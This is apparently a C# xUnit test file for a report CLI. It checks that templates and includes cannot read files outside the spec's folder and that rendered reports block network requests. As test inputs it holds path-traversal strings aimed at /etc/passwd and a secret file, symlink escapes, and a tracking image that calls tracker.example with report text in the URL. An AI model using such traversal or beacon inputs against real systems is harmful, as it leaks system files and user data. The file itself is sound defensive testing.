using HccReport.Cli.Tests.Specs;

namespace HccReport.Cli.Tests.Privacy;

/// <summary>
/// A spec's HTML template, and whatever it includes, can come only from the spec's folder or the built-in templates:
/// a shared spec cannot pull a local file (/etc/passwd, a data file elsewhere) into a report. Each refusal is an
/// input error (exit 2) that writes nothing and does not echo the file.
/// </summary>
public sealed class TemplateConfinementTests : IDisposable
{
    private const string Secret = "TOP-SECRET-7d3f";

    /// <summary>From the study folder (at any depth under /tmp) up to the root and into /etc.</summary>
    private static readonly string UpToEtc = string.Concat(Enumerable.Repeat("../", 16)) + "etc/passwd";

    private readonly StudyFolder _study = StudyFolder.Small();
    private readonly string _elsewhere;

    public TemplateConfinementTests()
    {
        _elsewhere = Path.Combine(_study.Root, "elsewhere", "secret.sbn");
        Directory.CreateDirectory(Path.GetDirectoryName(_elsewhere)!);
        File.WriteAllText(_elsewhere, Secret);
        Assert.True(File.Exists("/etc/passwd"), "the tests read /etc/passwd's name, never its content");
    }

    public void Dispose() => _study.Dispose();

    private CliResult RenderWithTemplate(string templateKey)
    {
        File.WriteAllText(_study.Spec, StudyFolder.AddTopLevel(File.ReadAllText(_study.Spec), $"template: \"{templateKey}\""));
        return CommandLine.Run("render", _study.Spec, "--out", _study.Out());
    }

    private void AssertRefused(CliResult run)
    {
        Assert.True(run.ExitCode == 2, run.ToString());
        Assert.Contains("Template", run.Stderr, StringComparison.Ordinal);
        Assert.Contains("refused", run.Stderr, StringComparison.Ordinal);
        Assert.DoesNotContain("root:", run.Stderr, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, run.Stderr, StringComparison.Ordinal);
        Assert.False(Directory.Exists(_study.Out()), "a refused template leaves no report");
    }

    [Fact]
    public void ATemplateOutsideTheSpecsFolderIsRefused() => AssertRefused(RenderWithTemplate(UpToEtc));

    [Fact]
    public void ATemplateNamedByAnAbsolutePathOutsideIsRefused() => AssertRefused(RenderWithTemplate(_elsewhere));

    [Theory]
    [InlineData("../elsewhere/secret.sbn")]
    [InlineData("/etc/passwd")]
    [InlineData("sub/../../elsewhere/secret.sbn")]
    public void AnIncludeThatEscapesTheFolderIsRefused(string include)
    {
        _study.Write("report.html.sbn", $"<!DOCTYPE html><html><head></head><body>{{{{ include '{include}' }}}}</body></html>");
        AssertRefused(RenderWithTemplate("report.html.sbn"));
    }

    [Fact]
    public void AnIncludeClimbingToTheRootIsRefused()
    {
        _study.Write("report.html.sbn", $"<html><body>{{{{ include '{UpToEtc}' }}}}</body></html>");
        AssertRefused(RenderWithTemplate("report.html.sbn"));
    }

    [Fact]
    public void AnIncludeThroughALinkOutOfTheFolderIsRefused()
    {
        File.CreateSymbolicLink(Path.Combine(_study.Study, "logo.sbn"), _elsewhere);
        Directory.CreateSymbolicLink(Path.Combine(_study.Study, "partials"), Path.GetDirectoryName(_elsewhere)!);
        _study.Write("a.html.sbn", "<html><body>{{ include 'logo.sbn' }}</body></html>");
        AssertRefused(RenderWithTemplate("a.html.sbn"));

        File.WriteAllText(_study.Spec, File.ReadAllText(TestSpecs.Small));
        _study.Write("b.html.sbn", "<html><body>{{ include 'partials/secret.sbn' }}</body></html>");
        AssertRefused(RenderWithTemplate("b.html.sbn"));
    }

    [Fact]
    public void ATemplateAndIncludesFromTheSpecsFolderWorkAndTheReportStillForbidsRequests()
    {
        // A template that leaves out the policy and loads an image: HccReport puts the policy first in the head, so
        // a shared template cannot make the report call out (with report text in the URL) when it is opened.
        _study.Write("partials/header.sbn", "<p class=\"centre\">Centre header from the spec's folder</p>");
        _study.Write("mine.html.sbn",
            "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>{{ title }}</title></head><body>" +
            "<img src=\"https://tracker.example/p.gif?t={{ title }}\">{{ include 'partials/header.sbn' }}<h1>{{ title }}</h1>" +
            "{{ for section in sections }}{{ for block in section.blocks }}{{ if block.type == 'table'; table = block.table; include 'table.sbn'; end }}{{ end }}{{ end }}" +
            "</body></html>");
        var run = RenderWithTemplate("mine.html.sbn");
        Assert.True(run.ExitCode == 0, run.ToString());

        var html = File.ReadAllText(Path.Combine(_study.Out(), "report.html"));
        Assert.Contains("Centre header from the spec's folder", html, StringComparison.Ordinal);
        Assert.Contains("Baseline characteristics by treatment arm", html, StringComparison.Ordinal);
        var document = HtmlRequests.Parse(html);
        var policy = HtmlRequests.Policy(document);
        Assert.Same(document.Head!.FirstElementChild, policy);
        HtmlRequests.AssertForbidsNetwork(policy.GetAttribute("content")!);
        Assert.True(html.IndexOf("Content-Security-Policy", StringComparison.Ordinal) < html.IndexOf("tracker.example", StringComparison.Ordinal));
    }
}
